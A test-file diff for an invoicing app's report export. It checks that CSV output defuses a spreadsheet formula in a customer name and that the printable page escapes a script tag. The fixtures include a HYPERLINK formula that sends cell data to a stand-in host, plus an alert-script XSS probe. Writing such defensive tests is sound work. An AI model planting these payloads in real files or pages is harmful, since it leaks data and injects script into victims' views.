@@ -195,6 +195,25 @@ describe('reports.export', () => {
   });
 });
 
+describe('exported files are safe to open', () => {
+  it('never lets a customer name run as a spreadsheet formula, and escapes it on the printable page', async () => {
+    const { core } = makeCore();
+    const evil = await call(core, 'customers.create', { name: '=HYPERLINK("http://x.example/?"&A1,"Click")', email: 'x@evil.co.ke' });
+    const tag = await call(core, 'customers.create', { name: '<script>alert(1)</script> Ltd', email: 'y@evil.co.ke' });
+    for (const c of [evil, tag]) {
+      const d = await call(core, 'drafts.create', { draft: { customerId: c.id, issueDate: '2026-11-02', lines: [{ description: 'Goods', quantityMilli: 1000, unitPriceMinor: 10_000 }] } });
+      await call(core, 'invoices.finalize', { id: d.id, version: 1 });
+    }
+    const definition: ReportDefinitionInput = { rows: 'invoices', groupBy: ['customer'], measures: ['count', 'sum'] };
+    const csv = await call(core, 'reports.export', { report: { kind: 'builder', definition }, format: 'csv' });
+    const names = Papa.parse<Record<string, string>>(csv.text, { header: true, skipEmptyLines: true }).data.map((r) => r.Customer);
+    expect(names).toContain(`'=HYPERLINK("http://x.example/?"&A1,"Click")`);
+    const page = await call(core, 'reports.export', { report: { kind: 'builder', definition }, format: 'pdf' });
+    expect(page.text).not.toContain('<script>alert(1)</script>');
+    expect(page.text).toContain('&lt;script&gt;alert(1)&lt;/script&gt; Ltd');
+  });
+});
+
 describe('reports.tax', () => {
   it('gives net and VAT per rate per month, invoices less credit notes by their own month', async () => {
     const { core } = await book();
